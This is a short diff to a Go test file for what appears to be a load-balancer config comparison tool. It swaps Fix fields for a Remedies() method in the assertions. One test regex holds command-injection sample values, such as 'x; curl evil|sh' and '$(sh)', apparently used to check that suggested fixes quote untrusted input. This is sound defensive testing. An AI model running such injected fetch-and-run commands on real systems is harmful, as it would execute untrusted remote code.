@@ -67,7 +67,7 @@ func TestOthersSayNoCommands(t *testing.T) {
 	}, nil)
 	require.Len(t, facts, 3)
 	for _, f := range facts {
-		require.Regexp(t, `'(x; curl evil\|sh|/x \$\(sh\)|a;b)'`, f.Fix[0])
+		require.Regexp(t, `'(x; curl evil\|sh|/x \$\(sh\)|a;b)'`, f.Remedies()[0])
 	}
 }
 
@@ -179,7 +179,7 @@ func TestCompare(t *testing.T) {
 		require.Equal(t, severity, found[0].Severity, name)
 		require.Contains(t, found[0].What, same[name]+" on lb-1, lb-2; other on lb-3")
 		require.NotEmpty(t, found[0].Why)
-		require.NotEmpty(t, found[0].Fix)
+		require.NotEmpty(t, found[0].Remedies())
 		if name == "configuration of haproxy" {
 			require.Contains(t, found[0].Fix[0], "hawser reload --push /srv/lb.cfg haproxy ",
 				"no other file may be pushed")
